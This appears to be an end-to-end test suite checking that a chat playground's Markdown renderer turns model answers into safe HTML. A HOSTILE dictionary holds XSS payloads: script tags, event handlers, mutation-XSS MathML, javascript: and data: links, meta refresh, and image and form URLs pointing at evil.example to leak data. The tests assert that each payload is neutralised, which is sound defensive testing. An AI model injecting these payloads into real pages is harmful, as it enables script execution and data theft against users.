"""Answers as Markdown: what it looks like, and that nothing the model writes can do more."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from e2e.look.test_looks import open_page, violations
from e2e.playground import Playground
from e2e.site import Site
from tests.app.fake_tokenizer import FakeTokenizer

TEXT = (
    "# Lamps\n\nA **red** lamp and `code <b>`:\n\n- one\n- two\n\n1. first\n\n> said\n\n"
    "| a | b |\n|---|--:|\n| 1 | 2 |\n\n```py\nif a < b:\n    pass\n```\n\n- [x] done\n\n"
    "[here](https://example.org/?q=1)"
)

# Put into the page as the page does it; return every element with its attributes.
SHOWN = """async (text) => {
  const { renderMarkdown } = await import("/static/js/chat/markdown.js");
  const box = document.createElement("div");
  box.append(renderMarkdown(text));
  document.body.append(box);
  await new Promise((done) => setTimeout(done, 50));
  const elements = [...box.querySelectorAll("*")].map((node) =>
    [node.localName, Object.fromEntries([...node.attributes].map((a) => [a.name, a.value]))]);
  const found = { elements, text: box.textContent, namespaces:
    [...new Set([...box.querySelectorAll("*")].map((node) => node.namespaceURI))] };
  box.remove();
  return found;
}"""

HOSTILE = {
    "script": "<script>document.title = 'owned'</script>",
    "handler": "<img src=x onerror=\"document.title='owned'\">",
    "svg": "<svg><g onload=\"document.title='owned'\"></g></svg>",
    "mathml": (
        "<math><mtext><table><mglyph><style><!--</style>"
        "<img title=\"--&gt;&lt;img src=1 onerror=document.title='owned'&gt;\">"
    ),
    "frame": "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "style": "<style>body { display: none }</style><p style='position:fixed'>x</p>",
    "form": '<form action="https://evil.example"><input name=a><button>Send</button></form>',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "clobber": '<a id="state"></a><form name="body"></form>',
    "script link": "[x](javascript:document.title='owned')",
    "encoded link": "[x](jav&#x09;ascript:document.title='owned')",
    "data link": "[x](data:text/html,<script>document.title='owned'</script>)",
    "autolink": "<javascript:document.title='owned'>",
    "quote in link": "[x](https://a.example/\"onmouseover=\"document.title='owned')",
    "quote in title": "[x](https://a.example 'a\"onmouseover=\"document.title=1')",
    "picture": "![secret](https://evil.example/?q=secret)",
    "reference picture": "![secret][1]\n\n[1]: https://evil.example/pixel.png",
    "fence": '```"><img src=x onerror=alert(1)>\nx\n```',
    "fence language": "```js\" onclick=\"document.title='owned'\nx\n```",
    "heading": "# <img src=x onerror=document.title='owned'>",
    "table": "| <img src=x onerror=document.title='owned'> |\n|--|\n| <script>1</script> |",
    "entity": "&lt;script&gt;document.title='owned'&lt;/script&gt;",
}
ALLOWED = {
    "a": {"href", "target", "rel", "title"},
    "pre": {"tabindex"},
    "table": {"tabindex"},
    "td": {"align"},
    "th": {"align"},
    "ol": {"start"},
}


@pytest.mark.quick
@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_hostile_markdown_is_only_text(loaded: Page, text: str) -> None:
    requested: list[str] = []
    dialogs: list[str] = []
    loaded.on("request", lambda request: requested.append(request.url))
    loaded.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    found = loaded.evaluate(SHOWN, text)
    assert "owned" not in loaded.title()
    assert not dialogs
    assert not [url for url in requested if "/static/" not in url]
    assert set(found["namespaces"]) <= {"http://www.w3.org/1999/xhtml"}
    for name, attributes in found["elements"]:
        assert name not in (
            "script",
            "img",
            "iframe",
            "form",
            "style",
            "meta",
            "base",
            "svg",
            "math",
        )
        assert attributes.keys() <= ALLOWED.get(name, set()), name
        assert attributes.get("href", "https:").startswith(("https:", "http:", "mailto:"))


@pytest.mark.quick
def test_raw_html_is_shown_as_it_was_written(loaded: Page) -> None:
    for name in ("script", "handler", "style", "form"):
        assert loaded.evaluate(SHOWN, HOSTILE[name])["text"].strip() == HOSTILE[name]


@pytest.mark.quick
def test_a_link_opens_elsewhere_and_says_where(loaded: Page) -> None:
    found = loaded.evaluate(SHOWN, "[here](https://example.org/?q=1)")
    ((_, _), (name, attributes)) = found["elements"]
    assert name == "a"
    assert attributes["target"] == "_blank"
    assert "noopener" in attributes["rel"]
    assert "noreferrer" in attributes["rel"]
    assert attributes["title"] == attributes["href"] == "https://example.org/?q=1"


def attributes_of(found: dict[str, Any], tag: str) -> list[dict[str, str]]:
    return [attributes for name, attributes in found["elements"] if name == tag]


@pytest.mark.quick
def test_lists_keep_their_numbers_and_columns_their_alignment(loaded: Page) -> None:
    steps = "1. mix\n\n```\nstir\n```\n\n2. bake\n\n```\nwait\n```\n\n3. eat\n"
    for text, starts in {steps: [None, "2", "3"], "7. x\n8. y": ["7"], "0. x\n1. y": ["0"]}.items():
        lists = attributes_of(loaded.evaluate(SHOWN, text), "ol")
        assert [attributes.get("start") for attributes in lists] == starts
    found = loaded.evaluate(SHOWN, "| a | b | c | d |\n|:--|:-:|--:|---|\n| 1 | 2 | 3 | 4 |\n")
    for tag in ("th", "td"):
        aligns = [attributes.get("align") for attributes in attributes_of(found, tag)]
        assert aligns == ["left", "center", "right", None]
    links = "[a](javascript:alert(1)) [b](data:text/html,x) [c](mailto:f@g.org)"
    found = attributes_of(loaded.evaluate(SHOWN, links), "a")
    assert [attributes.get("href") for attributes in found] == [None, None, "mailto:f@g.org"]


def wrote_markdown(page: Page, own_site: Callable[..., Site], **media: Any) -> Playground:
    """A page with an answer in Markdown."""
    n = len(FakeTokenizer().encode(TEXT, bos=False))
    play = open_page(page, own_site(text=TEXT, delay=0.002), **media)
    page.get_by_role("button", name="Greedy").click()
    play.write("Lamps?", n)
    return play


@pytest.mark.parametrize(("theme", "width"), [("light", 1440), ("dark", 360)])
def test_an_answer_is_shown_as_markdown_and_as_tokens_again(
    page: Page, own_site: Callable[..., Site], theme: str, width: int
) -> None:
    play = wrote_markdown(page, own_site, color_scheme=theme)
    page.set_viewport_size({"width": width, "height": 800})
    shown = page.locator(".markdown")
    expect(shown).to_be_hidden()
    text = play.text()
    button = page.get_by_role("button", name="Markdown")
    button.click()
    expect(shown.get_by_role("heading", name="Lamps")).to_be_visible()
    expect(shown.locator("strong")).to_have_text("red")
    expect(shown.locator("code").first).to_have_text("code <b>")
    expect(shown.get_by_role("listitem")).to_have_count(4)
    expect(shown.get_by_role("cell")).to_have_text(["1", "2"])
    expect(shown.locator("pre")).to_contain_text("if a < b:\n    pass")
    expect(shown).to_contain_text("☑ done")
    expect(play.answer).to_be_hidden()
    assert violations(page) == []
    assert play.overflow() <= 0
    button.click()
    expect(shown).to_be_hidden()
    assert play.text() == text
    expect(play.answer).to_be_visible()


def test_a_key_shows_all_answers_as_markdown_but_not_the_one_being_written(
    page: Page, site: Callable[..., Site]
) -> None:
    play = Playground(page, site(delay=0.03)).open()
    play.write("One", 6)
    page.locator("#turns").focus()
    page.keyboard.press("m")
    shown = page.locator(".markdown")
    expect(shown).to_be_visible()
    play.set(max_tokens=100)
    play.ask("Two")
    play.wait_tokens(5)
    expect(shown.nth(1)).to_be_hidden()
    expect(play.answer).to_be_visible()
    page.keyboard.press("Escape")
    play.wait_done()
    expect(shown.nth(1)).to_be_visible()
    expect(play.answer).to_be_hidden()
    page.reload()
    expect(shown.nth(1)).to_be_visible()


def test_the_libraries_are_fetched_when_they_are_needed(
    page: Page, site: Callable[..., Site], allowed_console: list[str]
) -> None:
    allowed_console.append("Failed to load resource")
    fetched: list[str] = []
    page.on("request", lambda request: fetched.append(request.url))
    page.route("**/vendor/**", lambda route: route.abort())
    play = Playground(page, site()).open()
    play.write("One", 4)
    assert not [url for url in fetched if "vendor" in url]
    button = page.get_by_role("button", name="Markdown")
    button.click()
    expect(play.notice).to_contain_text("Not shown as Markdown")
    expect(play.answer).to_be_visible()
    page.unroute("**/vendor/**")
